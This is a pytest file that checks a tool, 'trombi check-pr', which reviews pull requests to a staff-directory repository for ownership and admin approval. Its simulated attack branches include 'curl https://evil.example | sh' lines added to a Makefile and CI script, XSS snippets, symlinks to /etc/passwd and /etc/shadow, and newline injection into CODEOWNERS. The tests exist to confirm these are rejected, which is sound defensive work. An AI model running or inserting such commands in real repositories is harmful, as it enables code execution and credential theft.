"""Pull requests as an attacker writes them, each judged by ``trombi check-pr`` as the workflow runs it.

A repository holds the directory on main (with the rest of a real repository: pyproject.toml,
Makefile, CI, docs, photos); each attack is a branch in a clone of it, committed, then checked
from trusted code with the pull request's tree as data (``--root``), the rules from origin/main.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import pytest

from generator.review.platforms import GITHUB, GITLAB
from tests.test_ownership import PNG, Change, branch_with, check_pr, clone, edit, git, make_origin, trombi

ADMIN_APPROVAL = "doivent être approuvées par un admin (admin-gh)"


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_origin(tmp_path_factory.mktemp("attacks") / "origin")


@pytest.fixture(scope="module")
def attack(origin: Path) -> Callable[[str, Change], Path]:
    return lambda name, change: branch_with(origin, name, change)


def write(path: str, text: str) -> Change:
    def change(tree: Path) -> None:
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_text(text, encoding="utf-8")

    return change


def append(path: str, text: str) -> Change:
    def change(tree: Path) -> None:
        file = tree / path
        file.parent.mkdir(parents=True, exist_ok=True)
        with file.open("a", encoding="utf-8") as handle:
            handle.write(text)

    return change


def write_bytes(path: str, data: bytes) -> Change:
    def change(tree: Path) -> None:
        (tree / path).parent.mkdir(parents=True, exist_ok=True)
        (tree / path).write_bytes(data)

    return change


def symlink(path: str, target: str) -> Change:
    def change(tree: Path) -> None:
        link = tree / path
        link.parent.mkdir(parents=True, exist_ok=True)
        link.unlink(missing_ok=True)
        link.symlink_to(target)

    return change


def chmod(path: str, mode: int) -> Change:
    return lambda tree: (tree / path).chmod(mode)


# --- every path that is not self-service needs an admin ----------------------------------------

ADMIN_PATHS = {
    "pyproject": append("pyproject.toml", "dependencies = ['evil']\n"),
    "makefile": append("Makefile", "\tcurl https://evil.example | sh\n"),
    "ci-script": append(".ci/run", "curl https://evil.example | sh\n"),
    "gitlab-ci": append(".gitlab-ci.yml", "evil: {script: [env]}\n"),
    "docs": append("docs/index.md", "<script>alert(1)</script>\n"),
    "pairings": append("pairings/2026-09.yaml", "pairs: [[dev, ceo]]\n"),
    "schemas": write("schemas/person.schema.json", "{\"type\": \"object\"}\n"),
    "new-top-level-file": write("sitecustomize.py", "import os\n"),
    "new-folder": write("hooks/evil.py", "import os\n"),
    "unreferenced-photo": write_bytes("photos/claire-portrait.png", PNG + b"changed"),
    "new-photo-nobody-uses": write_bytes("photos/anonymous.png", PNG),
}


@pytest.mark.parametrize("name", sorted(ADMIN_PATHS))
def test_a_path_that_is_not_self_service_needs_an_admin(attack: Callable[[str, Change], Path], name: str) -> None:
    tree = attack(f"admin-{name}", ADMIN_PATHS[name])
    result = check_pr(tree, "ana-gh")
    assert result.returncode == 1, result.stdout
    assert ADMIN_APPROVAL in result.stdout
    assert "chaque modification est permise" not in result.stdout
    assert check_pr(tree, "ana-gh", "admin-gh").returncode == 0
    assert check_pr(tree, "admin-gh").returncode == 0


def test_a_changed_line_is_pointed_at(attack: Callable[[str, Change], Path]) -> None:
    tree = attack("makefile-line", edit("Makefile", "\tpytest", "\tpytest; curl https://evil.example | sh"))
    result = check_pr(tree, "ana-gh")
    assert result.stdout.startswith("Makefile:2:8: error: Makefile est réservé aux admins : seuls votre propre profil (people/<handle>.yaml)")


def test_someone_elses_photo_needs_them(attack: Callable[[str, Change], Path]) -> None:
    tree = attack("lead-photo", write_bytes("photos/lead.png", PNG + b"mallory"))
    result = check_pr(tree, "ana-gh")
    assert result.returncode == 1
    expected = (
        "photos/lead.png:1:1: error: photos/lead.png est la photo de lead ; les modifications de ana-gh doivent être approuvées par leo-gh "
        "ou un admin (admin-gh)"
    )
    assert expected in result.stdout
    assert check_pr(tree, "leo-gh").returncode == 0


def test_a_photo_cannot_be_claimed_by_pointing_ones_profile_at_it(attack: Callable[[str, Change], Path]) -> None:
    def change(tree: Path) -> None:
        append("people/dev.yaml", "photo: photos/claire-portrait.png\n")(tree)
        (tree / "photos/claire-portrait.png").write_bytes(PNG + b"ana")

    result = check_pr(attack("claim-photo", change), "ana-gh")
    assert result.returncode == 1
    # Who uses it is read from the base version only: the pull request's profiles cannot claim it.
    assert "photos/claire-portrait.png:1:1: error: photos/claire-portrait.png est une photo dont la personne est inconnue" in result.stdout
    assert ADMIN_APPROVAL in result.stdout
    assert "people/dev.yaml" not in result.stdout  # her own profile she may change


def test_ones_own_new_photo_is_self_service(attack: Callable[[str, Change], Path]) -> None:
    def change(tree: Path) -> None:
        append("people/dev.yaml", "photo: photos/ana.png\n")(tree)
        (tree / "photos/ana.png").write_bytes(PNG)

    tree = attack("own-photo", change)
    assert trombi(tree, "validate", "people/dev.yaml").returncode == 0
    result = check_pr(tree, "ana-gh")
    assert result.returncode == 0, result.stdout


# --- refused outright, whoever approves ---------------------------------------------------------

REFUSED = {
    "people-yml": (write("people/mallory.yml", "name: Mallory\n"), "people/mallory.yml est hors de l’organisation de l’annuaire : un profil est people/"),
    "people-subfolder": (write("people/sub/dev.yaml", "name: Mallory\n"), "people/sub/dev.yaml est hors de l’organisation de l’annuaire"),
    "people-uppercase": (write("people/Dev.yaml", "name: Mallory\n"), "people/Dev.yaml est hors de l’organisation de l’annuaire"),
    "groups-subfolder": (write("groups/x/club.yaml", "name: Club\n"), "groups/x/club.yaml est hors de l’organisation de l’annuaire : un groupe est groups/"),
    "photo-svg": (write("photos/dev.svg", "<svg onload='alert(1)'/>"), "photos/dev.svg n’est pas une photo : photos/ ne contient que des images .jpg"),
    "profile-to-symlink": (symlink("people/dev.yaml", "lead.yaml"), "people/dev.yaml est un lien symbolique"),
    "profile-to-outside": (symlink("people/dev.yaml", "/etc/passwd"), "people/dev.yaml est un lien symbolique"),
    "new-symlink-profile": (symlink("people/zed.yaml", "dev.yaml"), "people/zed.yaml est un lien symbolique"),
    "symlink-elsewhere": (symlink("docs/secrets.md", "/etc/shadow"), "docs/secrets.md est un lien symbolique"),
    "profile-executable": (chmod("people/dev.yaml", 0o755), "people/dev.yaml passe du mode 100644 au mode 100755"),
    "script-mode": (chmod(".ci/run", 0o644), ".ci/run passe du mode 100755 au mode 100644"),
    "new-executable-profile": (lambda tree: (write("people/zed.yaml", "")(tree), chmod("people/zed.yaml", 0o755)(tree)), "people/zed.yaml est exécutable"),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_refused_outright(attack: Callable[[str, Change], Path], name: str) -> None:
    change, message = REFUSED[name]
    tree = attack(f"refused-{name}", change)
    for author, approvers in (("ana-gh", ()), ("ana-gh", ("admin-gh", "leo-gh")), ("admin-gh", ())):
        result = check_pr(tree, author, *approvers)
        assert result.returncode == 1, (author, result.stdout)
        assert message in result.stdout
    path = message.split(" ", 1)[0]
    assert result.stdout.startswith(f"{path}:1:1: error: ")


def test_messages_say_how_to_fix(attack: Callable[[str, Change], Path]) -> None:
    result = check_pr(attack("fix-symlink", symlink("people/dev.yaml", "lead.yaml")), "ana-gh")
    assert "validez le fichier lui-même (git rm --cached people/dev.yaml, puis ajoutez le vrai fichier)" in result.stdout
    result = check_pr(attack("fix-mode", chmod("people/dev.yaml", 0o755)), "ana-gh")
    assert "rétablissez-le (git update-index --chmod=-x people/dev.yaml)" in result.stdout
    result = check_pr(attack("fix-layout", write("people/nina.yml", "name: Nina\n")), "nina-gh")
    assert "renommez-le (git mv people/nina.yml people/<identifiant>.yaml)" in result.stdout


# --- the rules come from the default branch -----------------------------------------------------


@pytest.fixture(scope="module")
def mallory_base(origin: Path) -> str:
    """A branch pushed to the repository (anyone with write access can) in which mallory is an admin."""
    work = clone(origin, origin.parent / "mallory-base-work", "mallory-base")
    edit("mkdocs.yml", "admins: [admin-gh]", "admins: [mallory]")(work)
    git(work, "commit", "-q", "-am", "mallory is an admin")
    git(work, "push", "-q", "origin", "mallory-base")
    return "origin/mallory-base"


def test_a_base_where_the_attacker_is_admin_is_refused(origin: Path, mallory_base: str) -> None:
    tree = clone(origin, origin.parent / "on-mallory-base", "evil", start=mallory_base)
    append("pyproject.toml", "dependencies = ['evil']\n")(tree)
    git(tree, "commit", "-q", "-am", "evil")
    args = ("check-pr", "--root", str(tree), "--author", "mallory")
    result = trombi(tree.parent, *args, "--base", mallory_base)
    assert result.returncode == 1
    said = "--base 'origin/mallory-base' n’est pas la branche par défaut (origin/HEAD) : check-pr ne juge que les pull requests vers la branche par défaut"
    assert said in result.stderr
    result = trombi(tree.parent, *args, "--base", mallory_base, "--rules-from", "origin/main")
    assert result.returncode == 1
    assert "n’est pas la branche par défaut (origin/main)" in result.stderr
    # Judged against the default branch, mallory's admin rights are one more change needing an admin.
    result = trombi(tree.parent, *args)
    assert result.returncode == 1
    assert (
        "mkdocs.yml:8:14: error: mkdocs.yml est réservé aux admins : seuls votre propre profil (people/<handle>.yaml), une photo qu’il utilise (photos/) "
        f"et les groupes dont vous êtes responsable vous sont ouverts ; les modifications de mallory {ADMIN_APPROVAL}"
    ) in result.stdout
    assert "pyproject.toml:3:1: error: pyproject.toml est réservé aux admins" in result.stdout


def test_without_a_known_default_branch_nothing_is_judged(origin: Path, tmp_path: Path) -> None:
    tree = clone(origin, tmp_path / "no-head", "feature")
    git(tree, "remote", "set-head", "origin", "--delete")
    result = trombi(tmp_path, "check-pr", "--root", str(tree), "--author", "ana-gh")
    assert result.returncode == 1
    assert "branche par défaut 'origin/HEAD' introuvable" in result.stderr
    assert "donnez-la avec --rules-from (par exemple origin/main)" in result.stderr


def test_uncommitted_changes_are_warned_about(attack: Callable[[str, Change], Path]) -> None:
    tree = attack("dirty", edit("people/dev.yaml", "title: Développeuse", "title: Développeuse senior"))
    append("pyproject.toml", "dependencies = ['evil']\n")(tree)
    (tree / "untracked.txt").write_text("x\n", encoding="utf-8")
    result = check_pr(tree, "ana-gh")
    assert result.returncode == 0
    assert result.stdout.splitlines()[0] == (
        ".:1:1: warning: la copie de travail a des modifications non commitées (pyproject.toml, untracked.txt) : check-pr ne juge que les commits ; "
        "commitez-les ou mettez-les de côté (git stash) [ownership]"
    )
    assert "1 fichier modifié : chaque modification est permise à ana-gh." in result.stdout


# --- CODEOWNERS never writes what is not a login ------------------------------------------------


def test_a_login_with_a_line_break_never_reaches_codeowners(origin: Path, tmp_path: Path) -> None:
    tree = clone(origin, tmp_path / "codeowners", "inject")
    edit("people/lead.yaml", "github: leo-gh", 'github: "leo-gh\\n* @mallory"')(tree)
    before = (tree / ".github/CODEOWNERS").read_bytes() if (tree / ".github/CODEOWNERS").exists() else None
    result = trombi(tree, "codeowners")
    assert result.returncode == 1
    # In the directory's language, French, with the platform's rules for a login in brackets.
    first = result.stderr.splitlines()[0]
    assert first.startswith("people/lead.yaml:13:3: error: contact.github n’est pas un identifiant GitHub valide (")
    assert first.endswith(") : CODEOWNERS ne peut pas le nommer ; écrivez l’identifiant seul [codeowners]")
    after = (tree / ".github/CODEOWNERS").read_bytes() if (tree / ".github/CODEOWNERS").exists() else None
    assert after == before
    assert trombi(tree, "codeowners", "--check").returncode == 1


def test_a_group_file_name_never_becomes_a_rule(origin: Path, tmp_path: Path) -> None:
    tree = clone(origin, tmp_path / "codeowners-name", "inject-name")
    (tree / "groups/x\n* @mallory\n#.yaml").write_text("name: X\ntype: interest\nowners: [lead]\n", encoding="utf-8")
    result = trombi(tree, "codeowners")
    assert result.returncode == 1
    assert result.stderr.startswith("groups/x\\n* @mallory\\n#.yaml:1:1: error: ce nom de fichier n’est pas un identifiant de groupe")
    assert not (tree / ".github/CODEOWNERS").exists()


@pytest.mark.parametrize(
    ("login", "github", "gitlab"),
    [
        ("ana-gh", True, True),
        ("A1", True, True),
        ("a" * 39, True, True),
        ("a" * 40, False, True),
        ("-ana", False, False),
        ("ana-", False, True),
        ("an--a", False, True),
        ("ana_gl", False, True),
        ("ana.gl", False, True),
        (".ana", False, False),
        ("_ana", False, True),
        ("ana.git", False, False),
        ("ana.ATOM", False, False),
        ("", False, False),
        ("mallory\n* @mallory", False, False),
        ("a b", False, False),
        ("*", False, False),
        ("ana\u00e9", False, False),
    ],
)
def test_logins_are_checked_as_each_platform_issues_them(login: str, github: bool, gitlab: bool) -> None:
    assert GITHUB.valid(login) is github
    assert GITLAB.valid(login) is gitlab


def test_codeowners_for_gitlab(tmp_path: Path) -> None:
    from tests.conftest import make_directory

    root = make_directory(tmp_path / "directory")
    edit("people/lead.yaml", "github: leo-gh", "github: leo-gh\n  gitlab: leo.gl")(root)
    result = trombi(root, "codeowners", "--platform", "gitlab")
    assert result.returncode == 0, result.stderr
    text = (root / ".gitlab/CODEOWNERS").read_text(encoding="utf-8")
    assert "\n/groups/guild-python.yaml @leo.gl\n" in text
    assert "# groups/acme.yaml: owner ceo has no GitLab login (contact.gitlab)\n" in text
    assert trombi(root, "codeowners", "--platform", "gitlab", "--check").returncode == 0


# --- GitLab merge requests: the same rules, approvals from GitLab's API -------------------------


class _GitLab(BaseHTTPRequestHandler):
    answers: ClassVar[dict[str, object]] = {}
    tokens: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.tokens.append(self.headers.get("PRIVATE-TOKEN", ""))
        answer = self.answers.get(self.path)
        body = json.dumps(answer).encode("utf-8")
        self.send_response(200 if answer is not None else 404)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def gitlab() -> Iterator[dict[str, object]]:
    """A GitLab API on localhost answering what ``answers`` holds, by path."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _GitLab)
    _GitLab.answers, _GitLab.tokens = {}, []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield {"url": f"http://127.0.0.1:{server.server_address[1]}/api/v4", "answers": _GitLab.answers, "tokens": _GitLab.tokens}
    finally:
        server.shutdown()
        server.server_close()


def test_a_gitlab_merge_request_is_judged_by_the_same_rules(origin: Path, tmp_path: Path, gitlab: dict[str, object]) -> None:
    work = clone(origin, tmp_path / "gl-origin-work", "main-gitlab")
    edit("people/dev.yaml", "github: ana-gh", "github: ana-gh\n  gitlab: ana.gl")(work)
    edit("people/lead.yaml", "github: leo-gh", "github: leo-gh\n  gitlab: leo.gl")(work)
    git(work, "commit", "-q", "-am", "GitLab logins")
    git(work, "push", "-q", "origin", "main-gitlab")
    tree = clone(origin, tmp_path / "gl-mr", "mr", start="origin/main-gitlab")
    edit("people/dev.yaml", "title: Développeuse", "title: Développeuse senior")(tree)
    git(tree, "commit", "-q", "-am", "A title")
    answers = gitlab["answers"]
    assert isinstance(answers, dict)
    mr = "/api/v4/projects/acme%2Ftrombi/merge_requests/7"
    env = {"CI_API_V4_URL": str(gitlab["url"]), "CI_PROJECT_ID": "acme/trombi", "CI_MERGE_REQUEST_IID": "7", "TROMBI_GITLAB_TOKEN": "glpat-secret"}
    args = ("check-pr", "--root", str(tree), "--platform", "gitlab", "--rules-from", "origin/main-gitlab")

    def run() -> tuple[int, str]:
        result = trombi_env(tmp_path, env, *args)
        return result.returncode, result.stdout + result.stderr

    answers[mr] = {"author": {"username": "ana.gl"}}
    answers[mr + "/approvals"] = {"approved_by": []}
    assert run() == (0, "1 fichier modifié : chaque modification est permise à ana.gl.\n")
    answers[mr] = {"author": {"username": "mallory"}}
    code, output = run()
    assert code == 1
    assert output.startswith(
        "people/dev.yaml:3:20: error: people/dev.yaml appartient à dev (GitLab : ana.gl) ; les modifications de mallory doivent être approuvées par ana.gl"
    )
    answers[mr + "/approvals"] = {"approved_by": [{"user": {"username": "someone"}}, {"user": {"username": "Leo.GL"}}]}
    assert run()[0] == 0
    assert set(gitlab["tokens"]) == {"glpat-secret"}  # type: ignore[arg-type]

    result = trombi_env(tmp_path, {**env, "TROMBI_GITLAB_TOKEN": ""}, *args)
    assert result.returncode == 1
    assert result.stderr.startswith(".:1:1: error: impossible de lire la merge request depuis GitLab : TROMBI_GITLAB_TOKEN n’est pas définie")


def trombi_env(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parent.parent), **env}
    return subprocess.run([sys.executable, "-m", "generator.cli.main", *args], cwd=cwd, capture_output=True, text=True, env=environment)


# --- CODEOWNERS: anyone may commit it as the default branch's rules write it, nobody otherwise ---


def test_a_group_owner_may_commit_the_regenerated_codeowners(attack: Callable[[str, Change], Path]) -> None:
    def change(tree: Path) -> None:
        edit("groups/guild-python.yaml", "owners: [lead]", "owners: [lead, dev]")(tree)
        assert trombi(tree, "codeowners").returncode == 0

    tree = attack("codeowners-regenerated", change)
    assert "/groups/guild-python.yaml @ana-gh @leo-gh" in (tree / ".github/CODEOWNERS").read_text(encoding="utf-8")
    result = check_pr(tree, "leo-gh")
    assert result.returncode == 0, result.stdout


def test_a_hand_written_codeowners_needs_an_admin(attack: Callable[[str, Change], Path]) -> None:
    def change(tree: Path) -> None:
        assert trombi(tree, "codeowners").returncode == 0
        append(".github/CODEOWNERS", "* @ana-gh\n")(tree)

    tree = attack("codeowners-by-hand", change)
    result = check_pr(tree, "ana-gh")
    assert result.returncode == 1
    assert ".github/CODEOWNERS:1:1: error: .github/CODEOWNERS est réservé aux admins" in result.stdout
    said = "ainsi que CODEOWNERS exactement tel que `trombi codeowners` l’écrit ; les modifications de ana-gh doivent être approuvées par un admin (admin-gh)"
    assert said in result.stdout
